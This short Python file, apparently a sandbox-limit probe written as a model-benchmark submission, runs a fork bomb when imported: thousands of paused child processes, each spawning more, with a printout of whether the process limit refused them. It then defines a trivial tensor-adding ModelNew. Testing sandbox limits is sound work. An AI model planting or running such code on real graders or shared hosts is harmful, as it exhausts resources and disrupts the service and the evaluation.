"""Forks until it is refused, in its children as well, and then works honestly."""

import ctypes
import os
import signal

from torch import nn

PARENT_DEATH, KILL, MOST = 1, 9, 5000


def child():
    ctypes.CDLL(None).prctl(PARENT_DEATH, KILL)
    for _ in range(4):
        try:
            if os.fork() == 0:
                ctypes.CDLL(None).prctl(PARENT_DEATH, KILL)
        except OSError:
            break
    while True:
        signal.pause()


def bomb():
    for number in range(MOST):
        try:
            if os.fork() == 0:
                child()
        except OSError:
            return number
    return MOST


print(f"refused={bomb() < 200}", flush=True)


class ModelNew(nn.Module):
    def forward(self, a, b):
        return a + b
